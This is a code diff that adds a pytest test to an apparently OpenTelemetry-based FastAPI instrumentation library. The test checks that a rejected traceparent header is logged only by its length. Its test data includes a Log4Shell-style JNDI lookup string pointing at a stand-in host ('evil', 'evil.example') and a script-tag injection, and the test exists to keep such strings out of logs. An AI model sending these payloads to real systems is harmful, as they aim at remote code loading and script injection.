@@ -127,6 +127,31 @@ async def test_the_error_line_redacts_the_apps_sanitize_fields(
     assert "qs-secret" not in caplog.text and "hdr-secret" not in caplog.text
 
 
+async def test_the_error_line_shows_a_rejected_traceparent_by_its_length_only(
+    capture: Capture, caplog: pytest.LogCaptureFixture
+) -> None:
+    """The request ID header was never logged raw, but a traceparent the propagator rejected was: an
+    attacker's string in every error line.  A valid one is shown as sent."""
+    app = FastAPI()
+
+    @app.get("/boom")
+    async def boom() -> None:
+        raise RuntimeError("boom")
+
+    otel_corr.instrument(app, tracer_provider=capture.provider)
+    caplog.set_level(logging.ERROR, logger="otel_corr.error")
+    hostile = "${jndi:ldap://evil/a}<script>x</script>"
+    valid = "00-" + "ab" * 16 + "-" + "cd" * 8 + "-01"
+    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
+    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
+        await client.get("/boom", headers={"traceparent": hostile})
+        await client.get("/boom", headers={"traceparent": valid})
+    first, second = [rec.request["headers"] for rec in caplog.records if rec.name == "otel_corr.error"]  # type: ignore[attr-defined]
+    assert first["traceparent"] == f"[not used: {len(hostile)} characters]"
+    assert second["traceparent"] == valid
+    assert "jndi" not in caplog.text and "<script>" not in caplog.text
+
+
 # --- Hostile W3C carriers --------------------------------------------------------------
 
 _JNDI = "${jndi:ldap://evil.example/a}"
